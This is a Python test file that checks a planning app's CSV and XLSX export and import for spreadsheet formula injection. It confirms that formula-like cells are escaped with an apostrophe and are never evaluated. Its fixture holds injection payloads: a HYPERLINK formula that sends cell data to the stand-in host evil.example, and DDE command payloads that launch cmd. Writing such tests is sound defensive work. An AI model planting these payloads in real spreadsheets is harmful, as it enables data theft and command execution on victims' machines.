"""Spreadsheet (CSV/XLSX) formula injection: every export writes a cell that starts like a
formula (= + - @) as text, with a leading apostrophe, and reads it back without it."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from models.plans.tasks import ProgressReport, TaskDefinition, create_task, report_progress
from models.units.service import UnitData, create_unit

pytestmark = pytest.mark.anyio
FORMULA_STARTS = ("=", "+", "-", "@")
HOSTILE = {
    "code": "=1+1",
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "expected_output": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit": "-2+3",
}


@pytest.fixture
async def hostile_task(world):
    """A task whose every text, and its lead and coordinating units (the export names them),
    starts like a formula."""
    unit = await create_unit(world.admin, UnitData("U1", HOSTILE["unit"], "department", "province"))
    other = await create_unit(world.admin, UnitData("U2", "@X", "department", "province"))
    task = await create_task(
        world.staff,
        world.plan_id,
        TaskDefinition(
            HOSTILE["code"],
            "institutions",
            HOSTILE["title"],
            unit["id"],
            HOSTILE["expected_output"],
            (other["id"],),
            ongoing=True,
        ),
    )
    await report_progress(world.staff, task["id"], ProgressReport("in_progress", 10, HOSTILE["note"]))
    return task


def _cells_of_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


async def test_every_export_writes_formulas_as_text(client, world, headers, hostile_task):
    url = f"/api/plans/{world.plan_id}/export"
    as_csv = await client.get(url, params={"format": "csv"}, headers=headers["viewer"])
    cells = _cells_of_csv(as_csv.content)
    as_xlsx = await client.get(url, params={"format": "xlsx"}, headers=headers["viewer"])
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).worksheets[0]  # formulas kept as formulas
    xlsx_cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in xlsx_cells), [
        c.value for c in xlsx_cells if c.data_type == "f"
    ]
    for exported in (cells, [str(cell.value) for cell in xlsx_cells]):
        assert not [cell for cell in exported if cell.startswith(FORMULA_STARTS)]
        for text in (*HOSTILE.values(), "@X"):
            assert "'" + text in exported, (text, exported)


async def test_an_exported_file_imports_back_unchanged(client, world, headers, hostile_task):
    url = f"/api/plans/{world.plan_id}/export"
    for fmt in ("csv", "xlsx"):
        exported = await client.get(url, params={"format": fmt}, headers=headers["staff"])
        back = await client.post(
            f"/api/plans/{world.plan_id}/import",
            files={"file": (f"ke-hoach.{fmt}", exported.content)},
            headers=headers["staff"],
        )
        assert back.status_code == 200, back.text
        assert back.json()["created"] == 0 and back.json()["updated"] == 0, (fmt, back.json())
    task = (await client.get(f"/api/tasks/{hostile_task['id']}", headers=headers["viewer"])).json()
    assert (task["code"], task["title"], task["expected_output"]) == (
        HOSTILE["code"],
        HOSTILE["title"],
        HOSTILE["expected_output"],
    )


async def test_formulas_in_an_imported_workbook_are_never_evaluated(client, world, headers):
    """A text cell that starts like a formula is kept as typed (and exported again with its
    apostrophe); a real formula cell is read as its cached value, never computed: here it has
    none, so the row is refused for a missing title."""
    book = Workbook()
    sheet = book.active
    sheet.append(["Mã nhiệm vụ", "Lĩnh vực", "Nhiệm vụ", "Đơn vị chủ trì", "Thời hạn"])
    sheet.append(["F.1", "Cải cách thủ tục hành chính", None, "STP", "30/06/2024"])
    sheet["C2"].value, sheet["C2"].data_type = "=1+2", "s"  # text that looks like a formula
    out = io.BytesIO()
    book.save(out)
    url = f"/api/plans/{world.plan_id}/import"
    typed = await client.post(url, files={"file": ("a.xlsx", out.getvalue())}, headers=headers["staff"])
    assert typed.status_code == 200, typed.text
    exported = await client.get(
        f"/api/plans/{world.plan_id}/export", params={"format": "csv"}, headers=headers["viewer"]
    )
    assert "'=1+2" in _cells_of_csv(exported.content)
    sheet["C2"] = "=1+2"  # a real formula, no cached value
    sheet["A2"] = "F.2"
    out = io.BytesIO()
    book.save(out)
    formula = await client.post(url, files={"file": ("b.xlsx", out.getvalue())}, headers=headers["staff"])
    assert formula.status_code == 422
    assert formula.json()["errors"][0]["row"] == 2
